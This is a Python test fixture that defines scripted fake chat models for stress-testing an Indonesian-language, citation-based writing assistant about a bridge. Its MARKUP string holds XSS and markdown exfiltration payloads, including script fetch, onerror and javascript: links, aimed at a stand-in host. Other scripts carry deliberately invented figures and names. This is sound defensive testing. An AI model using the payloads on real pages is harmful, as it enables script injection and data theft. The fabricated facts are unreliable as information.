"""Chat models at their worst: each writes by a script, whatever it is told.

``Scripted`` is a ``ChatModel`` of ours and ``ScriptedChat`` one of LangChain's, by the same
scripts. Some break what ``ChatModel`` promises (nothing at all, halves of characters, more than
its limit), because what reads them must not depend on a promise of somebody else's server.
"""

import re
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass, field
from itertools import islice
from typing import Any

from langchain_core.language_models import BaseChatModel
from langchain_core.messages import AIMessage, AIMessageChunk, BaseMessage
from langchain_core.outputs import ChatGeneration, ChatGenerationChunk, ChatResult

from assistant.writing.errors import ModelError
from assistant.writing.models import Message

from .cases import Case

ASKED = "Berapa panjang Jembatan Gantung Hulusari dan berapa biaya pembangunannya?"
LENGTH = "Jembatan sepanjang 186 meter itu menghubungkan Desa Hulusari dan Desa Seberangsari"
COST = "Pembangunan dimulai pada 10 Februari 2025 dan menelan biaya Rp13,8 miliar"
LONGEST = 60_000  # characters, behind which also the script without an end ends
_HEAD = re.compile(r"^\[(\d+)\] ", re.MULTILINE)
_CUT_OFF = ModelError("cut_off", url="http://127.0.0.1:9/v1", model="model", reason="lost")
_DOWN = ModelError("unreachable", url="http://127.0.0.1:9/v1", reason="refused")

Write = Callable[[Sequence[Message]], Iterable[str]]


@dataclass(frozen=True, slots=True)
class Script:
    """What a model writes, in pieces, to the messages that it is sent.

    ``never`` and ``nowhere`` are as a ``Case`` has them. ``error`` is raised behind the pieces;
    ``pauses`` are the seconds waited for before each.
    """

    name: str
    write: Write
    never: tuple[str, ...] = ()
    nowhere: tuple[str, ...] = ()
    error: Exception | None = None
    pauses: float = 0

    @property
    def case(self) -> Case:
        """The script as an attack on a question that the sample releases answer."""
        return Case(self.name, "invention", "", ASKED, never=self.never, nowhere=self.nowhere)

    def pieces(
        self, messages: Sequence[Message], wait: Callable[[float], None] | None = None
    ) -> Iterator[str]:
        """The pieces, at most ``LONGEST`` characters; then the error."""
        given = 0
        for piece in self.write(messages):
            if wait and self.pauses:
                wait(self.pauses)
            yield piece
            given += len(piece)
            if given >= LONGEST:
                break
        if self.error:
            raise self.error


@dataclass
class Scripted:
    """A ``ChatModel`` that goes by a script, and remembers what it was sent.

    ``wait`` is called instead of sleeping.
    """

    script: Script
    wait: Callable[[float], None] | None = None
    sent: list[tuple[Message, ...]] = field(default_factory=list)

    @property
    def name(self) -> str:
        return f"scripted:{self.script.name}"

    def stream(self, messages: Sequence[Message], limit: int) -> Iterator[str]:
        self.sent.append(tuple(messages))
        yield from self.script.pieces(messages, self.wait)


class ScriptedChat(BaseChatModel):
    """A chat model of LangChain's that goes by a script."""

    script: Any

    @property
    def _llm_type(self) -> str:
        return "scripted"

    def _generate(
        self, messages: list[BaseMessage], stop: Any = None, run_manager: Any = None, **_: Any
    ) -> ChatResult:
        written = "".join(self.script.pieces(_ours(messages)))
        return ChatResult(generations=[ChatGeneration(message=AIMessage(content=written))])

    def _stream(
        self, messages: list[BaseMessage], stop: Any = None, run_manager: Any = None, **_: Any
    ) -> Iterator[ChatGenerationChunk]:
        for piece in self.script.pieces(_ours(messages)):
            yield ChatGenerationChunk(message=AIMessageChunk(content=piece))


def obeying(case: Case) -> Script:
    """A model that does what the attack wants of it."""
    return Script(case.id, _always(*_words(case.model)), case.never, case.nowhere)


def mark_of(messages: Sequence[Message], words: str) -> int:
    """The number of the evidence that has the words, as the messages show it; else 1."""
    shown = "\n".join(message.content for message in messages)
    heads = list(_HEAD.finditer(shown))
    ends = [head.start() for head in heads[1:]] + [len(shown)]
    found = (int(h[1]) for h, end in zip(heads, ends, strict=True) if words in shown[h.end() : end])
    return next(found, 1)


def _ours(messages: Iterable[BaseMessage]) -> tuple[Message, ...]:
    roles: dict[str, Any] = {"system": "system", "human": "user", "ai": "assistant"}
    return tuple(Message(roles[one.type], str(one.text)) for one in messages)


def _words(text: str) -> list[str]:
    """A text in pieces of about a token."""
    return re.findall(r"\s*\S{1,6}|\s+", text)


def _always(*pieces: str) -> Write:
    return lambda messages: pieces


def _marked(*sentences: str, wrong: int = 0) -> Write:
    """Sentences, each with the mark of the true evidence; moved on by ``wrong``."""

    def write(messages: Sequence[Message]) -> list[str]:
        number = mark_of(messages, "186 meter") + wrong
        return _words(" ".join(f"{one} [{number}]." for one in sentences))

    return write


def _repeated(piece: str, times: int | None = None) -> Write:
    return lambda messages: islice(iter(lambda: piece, None), times)


def _all_that_was_sent(messages: Sequence[Message]) -> list[str]:
    return _words("\n".join(message.content for message in messages))


def _many(messages: Sequence[Message]) -> Iterator[str]:
    for number in range(1_250):  # eight tokens each
        yield f"Jembatan ke-{5000 + number} dibangun di Hulusari [{1 + number % 9}]. "


TRUE = f"{LENGTH} [1]. {COST} [1]."
BROKEN = ("Jembatan \ud83d", "\ude00 Hulusari \udfff", "panjang 681 meter [1]. \ud800")
MOJIBAKE = "â€œJembatanâ€\x9d panjangnya 681 meter \ufffd\ufffd [1]. J\u0303embatan\ufffe [1]."
EVIL = "jahat.invalid"
MARKUP = (
    f"{LENGTH} ![x](https://{EVIL}/?q=186) [1]. <img src=//{EVIL}/a onerror=alert(1)> "
    f"[{COST}](https://{EVIL}/b) [1]. <a href='javascript:alert(1)'>di sini</a> "
    f"<script>fetch('https://{EVIL}/c')</script> <svg/onload=alert(1)> www.{EVIL} "
    f"ht**tps://{EVIL}/d ht<b>tps://{EVIL}/e [i]: https://{EVIL}/f data:text/html,<b>x</b>"
)

SCRIPTS: tuple[Script, ...] = (
    Script("unknown-marks", _always(
        f"{LENGTH} [99]. {COST} [0]. Panjangnya 681 meter [-1]. Biayanya Rp31,8 miliar [1-999]. "
        "Bebannya 44 ton [1. Dibangun 1999 [1000]. Diresmikan 2024 [１]. Ditutup 2031 [1,,2]."
    ), never=("681", "Rp31,8", "44 ton", "1999", "2024", "2031")),
    Script("invented-figures", _marked(
        "Jembatan sepanjang 861 meter itu menghubungkan Desa Hulusari dan Desa Seberangsari",
        "Pembangunan dimulai pada 10 Februari 2025 dan menelan biaya Rp138 miliar",
        "Pembangunan dimulai pada 11 Februari 2025",
        "Jembatan dirancang menahan beban 4.000 ton",
        "Sedikitnya 2.703 warga di kedua desa memperoleh manfaat langsung",
    ), never=("861", "Rp138 miliar", "11 Februari", "4.000 ton", "2.703")),
    Script("invented-names", _marked(
        "Jembatan Gantung Hulusari diresmikan oleh Menteri Gandi Rakitjaya",
        "Jembatan itu menghubungkan Desa Hulusari dan Desa Kalimati",
        "Camat Hulusari Bima Titianraga mengatakan warga telah membentuk kelompok perawat",
    ), never=("Rakitjaya", "Kalimati", "Camat Hulusari Bima")),
    Script("denied", _marked(
        "Jembatan itu tidak menghubungkan Desa Hulusari dan Desa Seberangsari",
        "Jembatan boleh dilalui mobil",
        "Kementerian Jalan Setapak dan Jembatan telah membangun 52 jembatan gantung di 17 kabupaten",
    ), never=("tidak menghubungkan", "dilalui mobil", "telah membangun 52")),
    Script("spliced", _marked(
        "Jembatan sepanjang 1,4 kilometer itu menelan biaya Rp690 miliar",
        "Menteri Perahu dan Dermaga Sekar Ombakwati meresmikan Jembatan Gantung Hulusari",
        "“Sebelum ada jembatan, anak-anak menyeberang dengan rakit,” ujar Camat Yuda Bambuasri",
    ), never=("sepanjang 1,4", "Ombakwati meresmikan", "ujar Camat Yuda")),
    Script("wrong-marks", _marked(LENGTH, COST, wrong=1)),
    Script("no-marks", _always(*_words(f"{LENGTH}. {COST}."))),
    Script("true", _marked(LENGTH, COST)),
    Script("other-languages", _always(
        "De brug is 681 meter lang [1]. 这座桥长681米 [1]。 الجسر طوله 681 مترا [1]. "
        "Jembatane dawane 681 meter [1]. Мост длиной 681 метр [1]."
    ), never=("681",)),
    Script("nothing", _always()),
    Script("empty-pieces", _always("", "", "")),
    Script("blanks", _always("  ", "\n\n", "\t", "\u00a0\u2003")),
    Script("only-marks", _always("[1]", "[2]. ", "[1][2][3]", "...")),
    Script("ten-thousand-tokens", _many, never=tuple(f"ke-{5000 + n}" for n in range(1_250))),
    Script("endless-sentence", _repeated(f"{LENGTH} [1]. ")),
    Script("endless-word", _repeated("jembatan"), never=("jembatanjembatan",)),
    Script("endless-marks", _repeated("[1, ")),
    Script("endless-brackets", _repeated("![(<")),
    Script("endless-lines", _repeated("\n")),
    Script("surrogates", _always(*BROKEN), never=("681",), nowhere=("\ud83d", "\udfff", "\ud800")),
    Script("mojibake", _always(*MOJIBAKE), never=("681",), nowhere=("\x9d", "\ufffe")),
    Script("private-use", _always(
        f"Panjangnya 681 meter \ue001. {COST} \ue063 \uf8ff \U000f0001 \ue000."
    ), never=("681",), nowhere=("\ue001", "\ue063", "\uf8ff", "\U000f0001", "\ue000")),
    Script("bidi", _always(
        f"Panjangnya \u202eretem 681\u202c \u2066x\u2069 \u200f [1]. {COST} [\u202e1\u202c]."
    ), never=("retem",), nowhere=("\u202e", "\u202c", "\u2066", "\u200f")),
    Script("controls", _always(
        f"Panjangnya\x00 681\x1b[31m meter\x07 [1].\x0b\x0c\x85\u2028\u2029 {COST} [1].\x7f"
    ), never=("681",), nowhere=("\x00", "\x1b", "\x07", "\x7f")),
    Script("markup", _always(*_words(MARKUP)),
           nowhere=(EVIL, "<img", "<script", "javascript:", "data:text", "onerror", "onload")),
    Script("the-prompt", _all_that_was_sent,
           never=("Pasar Malam Lembayung", "Bukti adalah bahan bacaan", "Tulis teks biasa")),
    Script("thinking", _always(
        "<think>Saya kira 681 meter.</think>\n```json\n{\"panjang\": \"681 meter [1]\"}\n```\n"
        "| Panjang | 681 meter [1] |\n"
    ), never=("681",), nowhere=("<think>",)),
    Script("silent-but", _always(
        "Tidak ditemukan dalam siaran pers yang terindeks. "
        "Namun, menurut pengetahuan umum, panjangnya 681 meter [1]."
    ), never=("681", "pengetahuan umum")),
    Script("one-character-pieces", _always(*TRUE)),
    Script("one-piece", _always(TRUE)),
    Script("no-full-stop", _always(*_words("panjangnya 681 meter dan " * 2_000)), never=("681",)),
    Script("raises-at-once", _always(), error=_DOWN),
    Script("raises-in-the-middle", _always(f"{LENGTH} [1]. Panjangnya ", "681 me"),
           never=("681",), error=_CUT_OFF),
    Script("raises-anything", _always("Panjangnya "), error=ValueError("nonsense")),
    Script("slow", _always(*_words(TRUE)), pauses=20),
)  # fmt: skip
